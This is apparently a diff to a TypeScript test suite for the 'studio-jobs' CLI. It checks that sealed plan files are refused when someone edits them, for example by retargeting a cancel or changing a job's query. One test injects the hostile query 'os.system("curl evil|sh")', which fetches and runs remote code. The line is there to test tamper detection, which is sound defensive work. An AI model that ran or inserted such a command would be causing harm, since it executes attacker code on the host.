@@ -224,15 +224,92 @@ describe("saved plans", () => {
     expect(studio.emulator.store.allJobs()).toHaveLength(0);
   });
 
+  it("refuses a saved plan whose cancel was edited to name another stack's job, and cancels nothing", async () => {
+    const victim = mkdtempSync(join(tmpdir(), "studio-jobs-victim-"));
+    writeSpec(victim, "victim", { precious: { query: "print(42)", schedule: { cron: "0 1 * * *" } } });
+    expect((await cli(victim, ["apply", "--yes"])).code).toBe(0);
+    const precious = [...(await liveByKey("victim")).values()].flat()[0];
+    if (precious === undefined) throw new Error("the victim's job was not created");
+
+    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-tp-"));
+    const keep = { query: "print(1)", schedule: { cron: "0 2 * * *" } };
+    writeSpec(dir, "tp", { keep, gone: { query: "print(2)", schedule: { cron: "0 3 * * *" } } });
+    expect((await cli(dir, ["apply", "--yes"])).code).toBe(0);
+    writeSpec(dir, "tp", { keep });
+    expect((await cli(dir, ["plan", "--out", "plan.json"])).code).toBe(0);
+    const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as { actions: { kind: string; job_id?: string }[] };
+    for (const action of doc.actions) if (action.kind === "cancel") action.job_id = precious.id;
+    writeFileSync(join(dir, "tampered-cancel.json"), JSON.stringify(doc));
+
+    // The seal refuses it before any request; restore.test.ts shows the record check behind it.
+    const refused = await cli(dir, ["apply", "tampered-cancel.json"]);
+    expect(refused).toMatchObject({
+      code: 1,
+      stdout: "",
+      stderr:
+        "Error: tampered-cancel.json does not match its seal. The saved plan was changed after it was made. Nothing was changed.\n" +
+        "Make it again with `studio-jobs plan --out FILE` and apply that.\n",
+    });
+    expect(studio.emulator.store.allJobs().find((job) => job.id === precious.id)?.status).toBe("TASK");
+    expect([...(await liveByKey("tp")).keys()].sort()).toEqual(["gone", "keep"]);
+  });
+
+  it("refuses a saved plan whose jobs were edited, with or without a fingerprint, and creates nothing", async () => {
+    const dir = mkdtempSync(join(tmpdir(), "studio-jobs-edited-"));
+    writeSpec(dir, "edited", {
+      fresh: { query: "print(1)", schedule: { cron: "0 2 * * *" } },
+      withsecret: { query: "print(1)", environment: { K: "${env:SJ_SECRET}" } },
+    });
+    const secret = { SJ_SECRET: "the-secret-value" };
+    expect((await cli(dir, ["plan", "--out", "plan.json"], { env: secret })).code).toBe(0);
+    type Saved = { jobs: Record<string, { fingerprint: string | null; input: { query: string }; environment: Record<string, string> }> };
+    const edits: Record<string, (doc: Saved) => void> = {
+      // A job without sensitive values, its fingerprint set to null so that nothing recomputes it.
+      "edited-nullfp.json": (doc) => {
+        const job = doc.jobs["fresh"];
+        if (job === undefined) throw new Error("no job fresh");
+        job.fingerprint = null;
+        job.input.query = 'import os; os.system("curl evil|sh")';
+      },
+      // A job with a ${env:} value has no fingerprint in the file at all.
+      "edited.json": (doc) => {
+        const job = doc.jobs["withsecret"];
+        if (job === undefined) throw new Error("no job withsecret");
+        job.input.query = 'print("tampered")';
+        job.environment["EXTRA"] = "added";
+      },
+    };
+    for (const [name, edit] of Object.entries(edits)) {
+      const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as Saved;
+      edit(doc);
+      writeFileSync(join(dir, name), JSON.stringify(doc, null, 2));
+      expect(await cli(dir, ["apply", name], { env: secret })).toMatchObject({
+        code: 1,
+        stdout: "",
+        stderr:
+          `Error: ${name} does not match its seal. The saved plan was changed after it was made. Nothing was changed.\n` +
+          "Make it again with `studio-jobs plan --out FILE` and apply that.\n",
+      });
+    }
+    expect(studio.emulator.store.allJobs()).toHaveLength(0);
+    expect((await cli(dir, ["apply", "plan.json"], { env: secret })).code).toBe(0);
+    expect(
+      studio.emulator.store
+        .allJobs()
+        .map((job) => job.query)
+        .sort(),
+    ).toEqual(["print(1)", "print(1)"]);
+  });
+
   it("refuses a plan of a newer format_version and a plan for another stack", async () => {
     const dir = copyExample("analytics");
     expect((await cli(dir, ["plan", ".", "--out", "plan.json"])).code).toBe(0);
     const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as Record<string, unknown>;
-    writeFileSync(join(dir, "future.json"), JSON.stringify({ ...doc, format_version: 3, tool_version: "9.0.0" }));
+    writeFileSync(join(dir, "future.json"), JSON.stringify({ ...doc, format_version: 4, tool_version: "9.0.0" }));
     const future = await cli(dir, ["apply", "future.json"]);
     expect(future.code).toBe(1);
     expect(future.stderr).toBe(
-      "Error: future.json has format_version 3, newer than this studio-jobs (2) reads.\nIt was made by studio-jobs 9.0.0; apply it with that version or newer.\n",
+      "Error: future.json has format_version 4, newer than this studio-jobs (3) reads.\nIt was made by studio-jobs 9.0.0; apply it with that version or newer.\n",
     );
 
     // A damaged file stops at the schema, with where, instead of failing half-way.
@@ -245,6 +322,15 @@ describe("saved plans", () => {
       stderr:
         'Error: damaged.json is not a valid plan file: at jobs.nightly-embeddings.sensitive.environment.EMBED_API_KEY.digest, must match pattern "^[0-9a-f]{64}$".\n' +
         "Make a new plan with `studio-jobs plan --out FILE`.\n",
+    });
+
+    // Version 2 had no seal: an edit would have been applied.
+    writeFileSync(join(dir, "unsealed.json"), JSON.stringify({ ...doc, format_version: 2, tool_version: "0.1.0" }));
+    expect(await cli(dir, ["apply", "unsealed.json"])).toMatchObject({
+      code: 1,
+      stderr:
+        "Error: unsealed.json has format_version 2, made by an older studio-jobs (0.1.0) whose plans were not sealed, so an edit made after the plan would have been applied.\n" +
+        "Make a new plan with `studio-jobs plan --out unsealed.json`, and delete the old one wherever it was kept.\n",
     });
 
     // Version 1 held plain sha256 digests of sensitive values: refused, with what to do.
@@ -296,7 +382,7 @@ describe("saved plans and the key of their digests", () => {
       code: 1,
       stdout: "",
       stderr:
-        "Error: plan.json was made with a different Studio token, so this apply cannot check that its sensitive values are unchanged. Nothing was changed.\n" +
+        "Error: plan.json was made with a different Studio token, so this apply cannot check that the plan and its sensitive values are unchanged. Nothing was changed.\n" +
         "Apply it with what it was made with, or make a new plan here with `studio-jobs plan --out FILE`. To plan and apply with different tokens, set STUDIO_JOBS_PLAN_KEY to the same secret in both steps.\n",
     });
     expect([...two.emulator.requests.values()].reduce((a, b) => a + b, 0)).toBe(before);
@@ -313,7 +399,7 @@ describe("saved plans and the key of their digests", () => {
     const missing = await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-b" });
     expect(missing.code).toBe(1);
     expect(missing.stderr).toMatch(
-      /^Error: plan\.json keyed its digests of sensitive values with STUDIO_JOBS_PLAN_KEY, which is not set here: it cannot check them\. Nothing was changed\.\n/,
+      /^Error: plan\.json was sealed, and its sensitive values digested, with STUDIO_JOBS_PLAN_KEY, which is not set here: it cannot be checked\. Nothing was changed\.\n/,
     );
     const changed = await run(dir, ["apply", "plan.json"], { STUDIO_JOBS_PLAN_KEY: "another", DATACHAIN_STUDIO_TOKEN: "token-b" });
     expect(changed.stderr).toMatch(/^Error: plan\.json was made with a different STUDIO_JOBS_PLAN_KEY, so this apply cannot check/);
@@ -322,12 +408,16 @@ describe("saved plans and the key of their digests", () => {
     expect(applied.stdout).toContain("Apply complete: 4 created, 0 replaced, 0 cancelled, 0 failed.");
   });
 
-  it("applies a plan without sensitive values whatever the token", async () => {
+  it("needs the plan's key for a plan without sensitive values too: its seal is keyed", async () => {
     const dir = copyExample("ml-platform");
     expect((await run(dir, ["plan", "jobs", "--out", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
     const doc = JSON.parse(readFileSync(join(dir, "plan.json"), "utf8")) as { jobs: Record<string, { sensitive: object }> };
     expect(Object.values(doc.jobs).every((job) => Object.keys(job.sensitive).length === 0)).toBe(true);
-    expect((await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-b" })).code).toBe(0);
+    const refused = await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-b" });
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toMatch(/^Error: plan\.json was made with a different Studio token, so this apply cannot check/);
+    expect(two.emulator.store.allJobs()).toHaveLength(0);
+    expect((await run(dir, ["apply", "plan.json"], { DATACHAIN_STUDIO_TOKEN: "token-a" })).code).toBe(0);
   });
 });
 
